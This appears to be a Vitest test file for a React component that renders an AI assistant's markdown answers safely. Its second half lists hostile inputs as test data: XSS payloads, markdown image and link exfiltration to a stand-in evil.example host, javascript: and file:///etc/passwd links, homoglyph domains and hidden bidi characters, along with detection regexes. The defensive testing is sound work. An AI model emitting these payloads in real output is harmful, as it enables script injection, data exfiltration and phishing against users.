import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { Markdown } from '@/components/assistant/markdown'

const html = (text: string, streaming = false) =>
  renderToStaticMarkup(<Markdown streaming={streaming}>{text}</Markdown>)
/** The elements, without their looks. */
const bare = (text: string, streaming = false) =>
  html(text, streaming)
    .replaceAll(/ (class|tabindex)="[^"]*"/g, '')
    .replace(/^<div>|<\/div>$/g, '')

describe('what an answer is written in', () => {
  test.each([
    [
      '**bold**, *soft*, ~~gone~~ and `code`',
      '<p><strong>bold</strong>, <em>soft</em>, <del>gone</del> and <code>code</code></p>',
    ],
    ['# One\n\n### Three', '<h2>One</h2><h4>Three</h4>'],
    ['- a\n- b\n  1. c', '<ul><li>a</li><li>b<ol start="1"><li>c</li></ol></li></ul>'],
    ['3. three\n4. four', '<ol start="3"><li>three</li><li>four</li></ol>'],
    ['> said', '<blockquote><p>said</p></blockquote>'],
    ['a  \nb', '<p>a<br/>b</p>'],
    ['5 &lt; 6 &amp; &#8364;', '<p>5 &lt; 6 &amp; €</p>'],
    ['[Billing](/billing)', '<p><a href="/billing">Billing</a></p>'],
  ])('%j', (text, expected) => {
    expect(bare(text)).toBe(expected)
  })

  test('a table keeps its columns', () => {
    expect(bare('| a | b |\n|---|--:|\n| 1 | 2 |')).toBe(
      '<div><table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table></div>',
    )
    expect(html('| a | b |\n|---|--:|\n| 1 | 2 |')).toContain('text-right')
  })

  test('code is shown as it is, with what it is written in', () => {
    const shown = bare('```ts title="x"\nconst a = "<b>" // &amp;\n```')
    expect(shown).toContain('<span>ts</span>')
    expect(shown).toContain('const a = &quot;&lt;b&gt;&quot; // &amp;amp;')
  })

  test('half written, it looks like what it will be', () => {
    expect(bare('This is **bo', true)).toBe('<p>This is <strong>bo</strong></p>')
    expect(bare('```js\nlet a', true)).toContain('let a')
  })
})

describe('what an answer cannot do', () => {
  const hostile = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'hi <iframe src="https://evil.example"></iframe> there',
    '<svg><style>@import url(https://evil.example)</style></svg>',
    '![a](https://evil.example/p?d=secret)',
    '![a][1]\n\n[1]: https://evil.example/p',
    '[![a](https://evil.example/p)](https://evil.example)',
    '<link rel=stylesheet href=https://evil.example>',
    '<form action=https://evil.example><input name=a></form>',
    '<!-- --><object data=x></object>',
    '```html\n<img src=https://evil.example>\n```',
    '| <img src=x> |\n|---|\n| ![a](//evil.example) |',
  ]
  test.each(hostile)('make an element or a request of %j', (text) => {
    for (const streaming of [false, true]) {
      // All but our own button beside code.
      const shown = html(text, streaming).replaceAll(/<button.*?<\/button>/g, '')
      expect(shown).not.toMatch(
        /<(script|img|iframe|svg|style|link|form|input|object|embed|base|meta)/i,
      )
      expect(shown).not.toMatch(/<[^>]+\s(on\w+|src|srcset|style|action|data|background)=/i)
    }
  })

  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    '&#106;avascript:alert(1)',
    '\u0001javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'blob:https://evil.example/1',
    'https://tollgate.example@evil.example/',
  ])('link to %j', (address) => {
    for (const text of [
      `[click](${address})`,
      `[click](<${address}>)`,
      `<${address}>`,
      `[click][1]\n\n[1]: ${address}`,
    ])
      expect(html(text)).not.toMatch(/href="(?!https?:\/\/|\/|mailto:)/i)
  })

  test.each([
    ['[Pay your invoice](https://evil.example/pay)', '(evil.example)'],
    ['[https://tollgate.example](https://evil.example/)', '(evil.example)'],
    ['[https://tollgate.example/?evil.example](https://evil.example/)', '(evil.example)'],
    ['https://gіthub.com/a', '(xn--'],
    ['[Billing](//evil.example/billing)', '(evil.example)'],
    ['[Billing](/\\evil.example/billing)', '(evil.example)'],
    ['[gіthub](https://gіthub.com)', '(xn--'],
  ])('hide where %j leads', (text, said) => {
    expect(html(text)).toContain(said)
    expect(html(text)).toContain('rel="noopener noreferrer nofollow"')
  })

  test('turn or hide its own letters', () => {
    const shown = bare('safe \u202egnp.exe\u202c and\u200b hid\u{e0041}den &#8238;x')
    expect(shown).toBe('<p>safe gnp.exe and hidden x</p>')
  })
})
